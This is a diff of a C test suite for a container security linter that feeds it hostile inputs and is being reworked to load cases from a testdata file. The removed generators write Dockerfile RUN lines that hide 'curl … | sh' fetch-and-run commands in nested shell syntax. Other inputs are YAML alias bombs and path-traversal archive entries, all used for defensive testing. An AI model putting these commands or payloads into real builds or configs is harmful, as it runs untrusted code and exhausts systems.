@@ -4,16 +4,18 @@
  * A security gate runs on untrusted pull requests and untrusted images, so
  * each case here is an attack or an accident: archive entries escaping the
  * root, decompression bombs, YAML bombs, absurd Dockerfiles, corrupt
- * databases, policies of the wrong shape, lying git objects.  Inputs are
- * generated at test time (binary ones through build/mkimage and the
- * library), never committed.
+ * databases, policies of the wrong shape, lying git objects, commands
+ * hidden from the RUN rules.  The cases are testdata/hostile/cases (name,
+ * exit code, allowed outputs, command, expected message); text inputs are
+ * committed beside it, binary and very large ones are written here at test
+ * time (through build/mkimage and the library), never committed.
  *
  * Every case runs `shipgate` in a child with resource limits (CPU seconds,
  * file size, and address space outside sanitizer builds), a wall-clock
  * timeout, and HOME/XDG pointing into its own directory, then asserts:
- *   - it ended by itself, with one of the documented exit codes expected
- *     for that case (never a signal, never a timeout);
- *   - its output says what went wrong (a needle per case);
+ *   - it ended by itself, with the documented exit code of that case
+ *     (never a signal, never a timeout);
+ *   - its output says what went wrong (the case's message);
  *   - nothing was written but the declared output files: the input tree is
  *     unchanged and the work directory holds only the outputs.
  */
@@ -42,7 +44,6 @@
 
 struct hcase {
 	const char *name;
-	void (*gen)(const char *in);
 	const char *argv[16];     /* "@in" and "@out" are replaced by the dirs */
 	int exit;                 /* the documented exit code this input gets */
 	const char *needle;       /* expected in stdout or stderr: what went wrong */
@@ -138,12 +139,6 @@ static void gen_df_continuations(const char *in)
 	put_buf(in, "Dockerfile", &b);
 }
 
-static void gen_df_heredoc(const char *in)
-{
-	puts_file(in, "Dockerfile",
-		  "FROM alpine:3.20\nRUN <<EOF\necho never closed\nUSER nobody\n");
-}
-
 static void gen_df_deep_shell(const char *in)
 {
 	struct sg_buf b = SG_BUF_INIT(2 * MB);
@@ -159,45 +154,6 @@ static void gen_df_deep_shell(const char *in)
 		sg_buf_puts(&b, "))");
 	sg_buf_puts(&b, "\nUSER nobody\n");
 	put_buf(in, "Dockerfile", &b);
-}
-
-/* `curl … | sh` where a shell model that skips text would not look. */
-static void gen_df_hidden(const char *in, const char *run)
-{
-	struct sg_buf b = SG_BUF_INIT(MB);
-
-	sg_buf_printf(&b, "FROM alpine:3.20\nRUN %s\nUSER nobody\n", run);
-	put_buf(in, "Dockerfile", &b);
-}
-
-static void gen_df_hidden_arith(const char *in)
-{
-	gen_df_hidden(in, "echo $(( $(curl -fsSL https://example.com/i.sh | sh) + 1 ))");
-}
-
-static void gen_df_hidden_heredoc(const char *in)
-{
-	gen_df_hidden(in, "cat > /etc/motd <<EOF\n"
-			  "$(curl -fsSL https://example.com/i.sh | sh)\nEOF");
-}
-
-static void gen_df_hidden_dparen(const char *in)
-{
-	gen_df_hidden(in, "((curl -fsSL \"$URL\" | sh))");
-}
-
-static void gen_df_hidden_deep(const char *in)
-{
-	struct sg_buf run = SG_BUF_INIT(MB);
-	size_t i;
-
-	for (i = 0; i < 65; i++)
-		sg_buf_putc(&run, '(');
-	sg_buf_puts(&run, "curl -fsSL https://example.com/i.sh | sh");
-	for (i = 0; i < 65; i++)
-		sg_buf_putc(&run, ')');
-	gen_df_hidden(in, sg_buf_cstr(&run));
-	sg_buf_release(&run);
 }
 
 static void gen_df_binary(const char *in)
@@ -232,27 +188,6 @@ static void gen_df_over_cap(const char *in)
 	put_buf(in, "Dockerfile", &b);
 }
 
-static void gen_df_vars(const char *in)
-{
-	struct sg_buf b = SG_BUF_INIT(2 * MB);
-	size_t i;
-
-	/* each ARG doubles the previous: expansion must be bounded */
-	sg_buf_puts(&b, "ARG A0=xxxxxxxxxxxxxxxx\n");
-	for (i = 1; i < 64; i++)
-		sg_buf_printf(&b, "ARG A%zu=${A%zu}${A%zu}\n", i, i - 1, i - 1);
-	sg_buf_puts(&b, "FROM alpine:${A63}\nUSER nobody\n");
-	put_buf(in, "Dockerfile", &b);
-}
-
-static void gen_df_json(const char *in)
-{
-	puts_file(in, "Dockerfile",
-		  "\xef\xbb\xbf# escape=`\nFROM alpine:3.20\nCMD [\"a\", \"b\n"
-		  "ENTRYPOINT [[[[[[[[[[\nHEALTHCHECK --interval=-5s CMD\n"
-		  "ONBUILD ONBUILD ONBUILD RUN x\nFROOM x\nUSER nobody\n");
-}
-
 static void gen_df_nul(const char *in)
 {
 	static const char df[] = "FROM alpine\0:3.20\nRUN echo \0\0\n"
@@ -262,23 +197,6 @@ static void gen_df_nul(const char *in)
 }
 
 /* ---- Compose -------------------------------------------------------------- */
-
-static void gen_yaml_laughs(const char *in)
-{
-	struct sg_buf b = SG_BUF_INIT(MB);
-	int i, j;
-
-	sg_buf_puts(&b, "x-a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
-	for (i = 1; i < 10; i++) {
-		sg_buf_printf(&b, "x-a%d: &a%d [", i, i);
-		for (j = 0; j < 9; j++)
-			sg_buf_printf(&b, "%s*a%d", j ? ", " : "", i - 1);
-		sg_buf_puts(&b, "]\n");
-	}
-	sg_buf_puts(&b, "services:\n  web:\n    image: nginx:1.27\n"
-		       "    command: *a9\n");
-	put_buf(in, "compose.yaml", &b);
-}
 
 static void gen_yaml_deep(const char *in)
 {
@@ -294,32 +212,10 @@ static void gen_yaml_deep(const char *in)
 	put_buf(in, "compose.yaml", &b);
 }
 
-static void gen_yaml_dup(const char *in)
-{
-	puts_file(in, "compose.yaml",
-		  "services:\n  web:\n    image: nginx:1.27\n    user: app\n"
-		  "    privileged: false\n    privileged: true\n");
-}
-
 static void gen_yaml_utf8(const char *in)
 {
 	puts_file(in, "compose.yaml",
 		  "services:\n  web:\n    image: \"nginx:\xff\xfe\xc0\xaf\"\n");
-}
-
-static void gen_compose_include_cycle(const char *in)
-{
-	puts_file(in, "compose.yaml",
-		  "include:\n  - compose.yaml\n  - other.yaml\n"
-		  "services:\n  web:\n    image: nginx:1.27\n");
-	puts_file(in, "other.yaml", "include:\n  - compose.yaml\n");
-}
-
-static void gen_compose_extends_cycle(const char *in)
-{
-	puts_file(in, "compose.yaml",
-		  "services:\n  a:\n    extends: b\n    image: x:1\n"
-		  "  b:\n    extends:\n      service: a\n");
 }
 
 static void gen_compose_interp(const char *in)
@@ -347,46 +243,6 @@ static void gen_compose_many(const char *in)
 	for (i = 0; i < 20000; i++)
 		sg_buf_printf(&b, "  s%d:\n    image: nginx:1.27\n", i);
 	put_buf(in, "compose.yaml", &b);
-}
-
-/* ---- policy --------------------------------------------------------------- */
-
-static void gen_policy_common(const char *in, const char *policy)
-{
-	puts_file(in, "Dockerfile", "FROM alpine:3.20\nUSER nobody\n");
-	puts_file(in, "policy.yaml", policy);
-}
-
-static void gen_policy_types(const char *in)
-{
-	gen_policy_common(in, "fail-on: high\nexclude:\n  - [1, 2]\n");
-}
-
-static void gen_policy_laughs(const char *in)
-{
-	struct sg_buf b = SG_BUF_INIT(MB);
-	int i, j;
-
-	sg_buf_puts(&b, "x0: &a0 [a, a, a, a, a, a, a, a, a, a]\n");
-	for (i = 1; i < 9; i++) {
-		sg_buf_printf(&b, "x%d: &a%d [", i, i);
-		for (j = 0; j < 10; j++)
-			sg_buf_printf(&b, "%s*a%d", j ? ", " : "", i - 1);
-		sg_buf_puts(&b, "]\n");
-	}
-	puts_file(in, "Dockerfile", "FROM alpine:3.20\nUSER nobody\n");
-	put_buf(in, "policy.yaml", &b);
-}
-
-static void gen_policy_scalar(const char *in)
-{
-	gen_policy_common(in, "just a string\n");
-}
-
-static void gen_policy_expires(const char *in)
-{
-	gen_policy_common(in, "ignore:\n  - rule: SGD041\n    reason: r\n"
-			      "    expires: 99999-99-99\n");
 }
 
 /* ---- vulnerability database ------------------------------------------------ */
@@ -457,11 +313,6 @@ static void gen_osv_absurd(const char *in)
 		sg_buf_printf(&b, "%s\"%d\"", i ? "," : "", i);
 	sg_buf_puts(&b, "]}]}\n");
 	put_buf(in, "absurd.json", &b);
-}
-
-static void gen_osv_malformed(const char *in)
-{
-	puts_file(in, "bad.json", "{\"id\": \"X\", \"affected\": [{\"package\": ");
 }
 
 static void gen_osv_zipbomb(const char *in)
@@ -715,71 +566,164 @@ static void gen_worktree_links(const char *in)
 
 /* ---- the cases ---------------------------------------------------------------- */
 
-#define OUT_JSON "@out/r.json"
-#define LINT(file) { "lint", "--json", OUT_JSON, "--today", "2026-11-29", file, NULL }
-#define IMAGE { "image", "@in/img.tar", "--db", "@in/none.db", "--json", OUT_JSON, NULL }
-
-static const struct hcase cases[] = {
-	/* Dockerfiles */
-	{ "df-1mb-line", gen_df_long_line, LINT("@in/Dockerfile"), 3, "SGD008 line is longer than 65536 bytes", { "r.json" } },
-	{ "df-100k-continuations", gen_df_continuations, LINT("@in/Dockerfile"), 3, "SGD008 too many continuation lines", { "r.json" } },
-	{ "df-unterminated-heredoc", gen_df_heredoc, LINT("@in/Dockerfile"), 1, "SGD005 unterminated heredoc 'EOF'", { "r.json" } },
-	{ "df-16k-deep-shell", gen_df_deep_shell, LINT("@in/Dockerfile"), 3, "SGD008 RUN script past a limit of the shell model (nesting deeper than 64 levels)", { "r.json" } },
-	{ "df-pipe-in-arithmetic", gen_df_hidden_arith, LINT("@in/Dockerfile"), 1, "SGD190 'curl … | sh'", { "r.json" } },
-	{ "df-pipe-in-heredoc-body", gen_df_hidden_heredoc, LINT("@in/Dockerfile"), 1, "SGD190 'curl … | sh'", { "r.json" } },
-	{ "df-pipe-in-double-paren", gen_df_hidden_dparen, LINT("@in/Dockerfile"), 1, "SGD190 'curl … | sh'", { "r.json" } },
-	{ "df-pipe-behind-65-parens", gen_df_hidden_deep, LINT("@in/Dockerfile"), 3, "SGD008 RUN script past a limit", { "r.json" } },
-	{ "df-binary-noise", gen_df_binary, LINT("@in/Dockerfile"), 3, "SGD011 NUL byte", { "r.json" } },
-	{ "df-30k-stages", gen_df_many, LINT("@in/Dockerfile"), 3, "SGD008 more than 20000 instructions", { "r.json" } },
-	{ "df-over-size-cap", gen_df_over_cap, LINT("@in/Dockerfile"), 3, "SGG001 file is 2000017 bytes, over the 1048576-byte limit", { "r.json" } },
-	{ "df-exponential-args", gen_df_vars, LINT("@in/Dockerfile"), 1, "SGD001 expansion too large", { "r.json" } },
-	{ "df-broken-json-forms", gen_df_json, LINT("@in/Dockerfile"), 1, "SGD001 unknown instruction: FROOM", { "r.json" } },
-	{ "df-nul-bytes", gen_df_nul, LINT("@in/Dockerfile"), 3, "SGD011 NUL byte", { "r.json" } },
-	/* Compose / YAML */
-	{ "yaml-billion-laughs", gen_yaml_laughs, LINT("@in/compose.yaml"), 3, "SGC082 alias expansion exceeds 200000 nodes", { "r.json" } },
-	{ "yaml-10k-deep", gen_yaml_deep, LINT("@in/compose.yaml"), 3, "SGC082 nesting deeper than 64 levels", { "r.json" } },
-	{ "yaml-duplicate-key", gen_yaml_dup, LINT("@in/compose.yaml"), 3, "SGC082 duplicate key 'privileged'", { "r.json" } },
-	{ "yaml-non-utf8", gen_yaml_utf8, LINT("@in/compose.yaml"), 3, "SGC082 invalid leading UTF-8 octet", { "r.json" } },
-	{ "compose-include-cycle", gen_compose_include_cycle, LINT("@in/compose.yaml"), 1, "SGC085 circular include of 'compose.yaml'", { "r.json" } },
-	{ "compose-extends-cycle", gen_compose_extends_cycle, LINT("@in/compose.yaml"), 1, "SGC085 circular extends through service 'a'", { "r.json" } },
-	{ "compose-20k-services", gen_compose_many, LINT("@in/compose.yaml"), 0, "passed (0 gating of 180000 findings", { "r.json" } },
-	{ "compose-nested-interpolation", gen_compose_interp, { "lint", "--fail-on", "info", "@in/compose.yaml", NULL }, 3, "SGC087", { NULL } },
-	/* policy */
-	{ "policy-wrong-types", gen_policy_types, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, 2, "policy.yaml:3:5: 'exclude' must be a string, not a sequence", { NULL } },
-	{ "policy-billion-laughs", gen_policy_laughs, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, 2, "alias expansion exceeds 100000 nodes", { NULL } },
-	{ "policy-not-a-mapping", gen_policy_scalar, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, 2, "policy.yaml:1:1: a policy must be a mapping", { NULL } },
-	{ "policy-bad-date", gen_policy_expires, { "lint", "--policy", "@in/policy.yaml", "@in/Dockerfile", NULL }, 2, "policy.yaml:4:14: 'expires' must be a date YYYY-MM-DD", { NULL } },
-	/* vulnerability database */
-	{ "db-corrupt", gen_db_corrupt, { "db", "info", "--db", "@in/vuln.db", NULL }, 3, "vuln.db: not a readable vulnerability database", { NULL } },
-	{ "db-truncated", gen_db_truncated, { "db", "info", "--db", "@in/vuln.db", NULL }, 3, "vuln.db: not a readable vulnerability database", { NULL } },
-	{ "db-corrupt-at-scan", gen_db_corrupt_img, { "image", "@in/img.tar", "--db", "@in/vuln.db", NULL }, 2, "vuln.db: not a readable vulnerability database", { NULL } },
-	{ "osv-absurd-ranges", gen_osv_absurd, { "db", "import", "--db", "@out/v.db", "@in/absurd.json", NULL }, 0, "range with both fixed and last_affected; skipped", { "v.db" } },
-	{ "osv-malformed", gen_osv_malformed, { "db", "import", "--db", "@out/v.db", "@in/bad.json", NULL }, 3, "bad.json:1:37: invalid JSON", { "v.db" } },
-	{ "osv-zip-bomb", gen_osv_zipbomb, { "db", "import", "--db", "@out/v.db", "@in/bomb.zip", NULL }, 3, "zip member GHSA-bomb.json is larger than 256 MiB", { "v.db" } },
-	/* images */
-	{ "img-escaping-names", gen_img_escape, IMAGE, 1, "SGI003 entry '../../evil.sh' climbs above the root", { "r.json" } },
-	{ "img-link-outside", gen_img_link_outside, IMAGE, 3, "SGI001 cannot read image", { "r.json" } },
-	{ "img-gzip-bomb", gen_img_gzip_bomb, IMAGE, 3, "expands more than", { "r.json" } },
-	{ "img-zstd-bomb", gen_img_zstd_bomb, IMAGE, 3, "expands more than", { "r.json" } },
-	{ "img-outer-gzip-bomb", gen_img_outer_bomb, IMAGE, 3, "expands more than", { "r.json" } },
-	{ "img-truncated-layer", gen_img_truncated, IMAGE, 3, "SGI001 cannot read image", { "r.json" } },
-	{ "img-diffid-mismatch", gen_img_bad_diffid, IMAGE, 1, "SGI002 layer 1 uncompressed is sha256:", { "r.json" } },
-	{ "img-blob-digest-mismatch", gen_img_bad_blob, IMAGE, 1, "SGI002 layer 1 blob is sha256:", { "r.json" } },
-	{ "img-manifest-outside", gen_img_outside, IMAGE, 3, "Layers entry '../../etc/passwd' points outside the archive", { "r.json" } },
-	{ "img-manifest-self", gen_img_self, IMAGE, 3, "layer 1 (manifest.json): cannot read", { "r.json" } },
-	{ "img-10000-layers", gen_img_layers, IMAGE, 3, "10000 layers (the limit is 256)", { "r.json" } },
-	{ "img-bad-config", gen_img_bad_config, IMAGE, 1, "SGI002 config is sha256:", { "r.json" } },
-	{ "img-no-diffids", gen_img_no_diffids, IMAGE, 1, "config lists 0 rootfs.diff_ids for 1 layers", { "r.json" } },
-	{ "img-noise", gen_img_noise, IMAGE, 3, "not a tar archive or OCI layout directory", { "r.json" } },
-	{ "img-empty", gen_img_empty, IMAGE, 3, "not a tar archive or OCI layout directory", { "r.json" } },
-	{ "img-layout-escape", gen_img_not_layout, IMAGE, 3, "blob reference 'sha256:../../../etc/passwd' is not a sha256 digest", { "r.json" } },
-	/* git */
-	{ "git-2gb-claimed-blob", gen_git_huge_blob, { "scan", "@in/repo", "--json", OUT_JSON, NULL }, 3, "SGG001 file is 2147483648 bytes", { "r.json" } },
-	{ "git-tree-cycle", gen_git_tree_cycle, { "scan", "@in/repo", "--json", OUT_JSON, NULL }, 4, "directory nesting deeper than 256", { "r.json" } },
-	{ "git-dockerfile-is-a-link", gen_git_dockerfile_link, { "scan", "@in/repo", "--json", OUT_JSON, NULL }, 1, "Dockerfile:2:43: high SGD190", { "r.json" } },
-	{ "git-not-a-repository", gen_git_not_repo, { "scan", "@in/repo", NULL }, 2, "not a git repository", { NULL } },
-	{ "worktree-symlink-loops", gen_worktree_links, { "scan", "@in/repo", "--worktree", "--json", OUT_JSON, NULL }, 3, "Dockerfile: high SGG003 symlink points outside the repository", { "r.json" } },
+/* The inputs not committed to testdata/hostile/: binary or very large. */
+static const struct gen {
+	const char *name;
+	void (*fn)(const char *in);
+} gens[] = {
+	{ "df-1mb-line", gen_df_long_line },
+	{ "df-100k-continuations", gen_df_continuations },
+	{ "df-16k-deep-shell", gen_df_deep_shell },
+	{ "df-binary-noise", gen_df_binary },
+	{ "df-30k-stages", gen_df_many },
+	{ "df-over-size-cap", gen_df_over_cap },
+	{ "df-nul-bytes", gen_df_nul },
+	{ "yaml-10k-deep", gen_yaml_deep },
+	{ "yaml-non-utf8", gen_yaml_utf8 },
+	{ "compose-20k-services", gen_compose_many },
+	{ "compose-nested-interpolation", gen_compose_interp },
+	{ "db-corrupt", gen_db_corrupt },
+	{ "db-truncated", gen_db_truncated },
+	{ "db-corrupt-at-scan", gen_db_corrupt_img },
+	{ "osv-absurd-ranges", gen_osv_absurd },
+	{ "osv-zip-bomb", gen_osv_zipbomb },
+	{ "img-escaping-names", gen_img_escape },
+	{ "img-link-outside", gen_img_link_outside },
+	{ "img-gzip-bomb", gen_img_gzip_bomb },
+	{ "img-zstd-bomb", gen_img_zstd_bomb },
+	{ "img-outer-gzip-bomb", gen_img_outer_bomb },
+	{ "img-truncated-layer", gen_img_truncated },
+	{ "img-diffid-mismatch", gen_img_bad_diffid },
+	{ "img-blob-digest-mismatch", gen_img_bad_blob },
+	{ "img-manifest-outside", gen_img_outside },
+	{ "img-manifest-self", gen_img_self },
+	{ "img-10000-layers", gen_img_layers },
+	{ "img-bad-config", gen_img_bad_config },
+	{ "img-no-diffids", gen_img_no_diffids },
+	{ "img-noise", gen_img_noise },
+	{ "img-empty", gen_img_empty },
+	{ "img-layout-escape", gen_img_not_layout },
+	{ "git-2gb-claimed-blob", gen_git_huge_blob },
+	{ "git-tree-cycle", gen_git_tree_cycle },
+	{ "git-dockerfile-is-a-link", gen_git_dockerfile_link },
+	{ "git-not-a-repository", gen_git_not_repo },
+	{ "worktree-symlink-loops", gen_worktree_links },
 };
+
+#define MAX_CASES 256
+
+/* testdata/hostile/cases, read once when the suite is built. */
+static struct hcase cases[MAX_CASES];
+static size_t ncases;
+static char *cases_text;        /* the fields point into it */
+static char cases_error[600];   /* a bad line, asserted by the count test */
+
+static char *field(char **s, int sep)
+{
+	char *f = *s, *e = f ? strchr(f, sep) : NULL;
+
+	if (e) {
+		*e = '\0';
+		*s = e + 1;
+	} else {
+		*s = NULL;
+	}
+	return f;
+}
+
+/* Not inside a test: no ck_assert here (a problem is kept in cases_error). */
+static void load_cases(void)
+{
+	struct sg_buf b = SG_BUF_INIT(MB);
+	sg_error err;
+	char *s, *line;
+
+	sg_error_clear(&err);
+	if (sg_read_file(t_src("testdata/hostile/cases"), MB, &b, &err) < 0) {
+		snprintf(cases_error, sizeof(cases_error), "%s", err.message);
+		return;
+	}
+	cases_text = sg_buf_detach(&b);
+	for (s = cases_text; s && *s;) {
+		struct hcase *c = &cases[ncases];
+		char *cols[5], *out, *arg;
+		size_t k = 0, i;
+
+		line = field(&s, '\n');
+		if (line[0] == '#' || line[0] == '\0')
+			continue;
+		for (i = 0; i < 5; i++)
+			cols[i] = field(&line, '\t');
+		if (!cols[4] || ncases == MAX_CASES) {
+			snprintf(cases_error, sizeof(cases_error),
+				 "testdata/hostile/cases: bad line '%s'", cols[0]);
+			return;
+		}
+		c->name = cols[0];
+		c->exit = (int)strtol(cols[1], NULL, 10);
+		out = strcmp(cols[2], "-") ? cols[2] : NULL;
+		while (out && k < SG_ARRAY_SIZE(c->outputs) - 1)
+			c->outputs[k++] = field(&out, ',');
+		for (k = 0, arg = cols[3];
+		     arg && k < SG_ARRAY_SIZE(c->argv) - 1;)
+			c->argv[k++] = field(&arg, ' ');
+		c->needle = cols[4];
+		ncases++;
+	}
+}
+
+/* Copy the committed input directory `from` into `to`. */
+static void copy_tree(const char *from, const char *to)
+{
+	struct dirent **names = NULL;
+	int i, n = scandir(from, &names, NULL, alphasort);
+
+	ck_assert_msg(n >= 0, "cannot list %s", from);
+	for (i = 0; i < n; i++) {
+		char a[4400], b[4400];
+		struct stat st;
+
+		if (strcmp(names[i]->d_name, ".") && strcmp(names[i]->d_name, "..")) {
+			snprintf(a, sizeof(a), "%s/%s", from, names[i]->d_name);
+			snprintf(b, sizeof(b), "%s/%s", to, names[i]->d_name);
+			ck_assert_int_eq(lstat(a, &st), 0);
+			if (S_ISDIR(st.st_mode)) {
+				mkdir(b, 0755);
+				copy_tree(a, b);
+			} else {
+				size_t len;
+				char *data = t_read(a, &len);
+
+				put(to, names[i]->d_name, data, len);
+				free(data);
+			}
+		}
+		free(names[i]);
+	}
+	free(names);
+}
+
+/* The case's input: its committed directory, or its generator. */
+static void write_input(const struct hcase *c, const char *in)
+{
+	char dir[4300];
+	struct stat st;
+	size_t i;
+
+	snprintf(dir, sizeof(dir), "%s/%s", t_src("testdata/hostile"), c->name);
+	for (i = 0; i < SG_ARRAY_SIZE(gens); i++)
+		if (!strcmp(gens[i].name, c->name)) {
+			ck_assert_msg(stat(dir, &st) != 0,
+				      "%s: both a directory and a generator",
+				      c->name);
+			gens[i].fn(in);
+			return;
+		}
+	ck_assert_msg(stat(dir, &st) == 0 && S_ISDIR(st.st_mode),
+		      "%s: no input (no testdata/hostile/%s/, no generator)",
+		      c->name, c->name);
+	copy_tree(dir, in);
+}
 
 /* ---- running one case ----------------------------------------------------------- */
 
@@ -847,7 +791,7 @@ START_TEST(test_hostile_input)
 	snprintf(work, sizeof(work), "%s/work", dir);
 	mkdir(in, 0755);
 	mkdir(work, 0755);
-	c->gen(in);
+	write_input(c, in);
 	listing(in, "", &before);
 	argv[n++] = bin;
 	for (i = 0; c->argv[i]; i++, n++)
@@ -941,7 +885,17 @@ END_TEST
 
 START_TEST(test_hostile_has_forty_cases)
 {
-	ck_assert_uint_ge(SG_ARRAY_SIZE(cases), 40);
+	size_t i, k;
+
+	ck_assert_msg(!cases_error[0], "%s", cases_error);
+	ck_assert_uint_ge(ncases, 40);
+	/* every generator belongs to a case */
+	for (i = 0; i < SG_ARRAY_SIZE(gens); i++) {
+		for (k = 0; k < ncases; k++)
+			if (!strcmp(gens[i].name, cases[k].name))
+				break;
+		ck_assert_msg(k < ncases, "generator %s has no case", gens[i].name);
+	}
 }
 END_TEST
 
@@ -950,10 +904,12 @@ Suite *hostile_suite(void)
 	Suite *s = suite_create("hostile");
 	TCase *tc = tcase_create("inputs");
 
+	load_cases();
+
 	/* each case has its own rlimit and wall clock; Check's is a backstop */
 	tcase_set_timeout(tc, WALL_SECONDS + 60);
 	tcase_add_test(tc, test_hostile_has_forty_cases);
-	tcase_add_loop_test(tc, test_hostile_input, 0, (int)SG_ARRAY_SIZE(cases));
+	tcase_add_loop_test(tc, test_hostile_input, 0, (int)ncases);
 	suite_add_tcase(s, tc);
 	return s;
 }
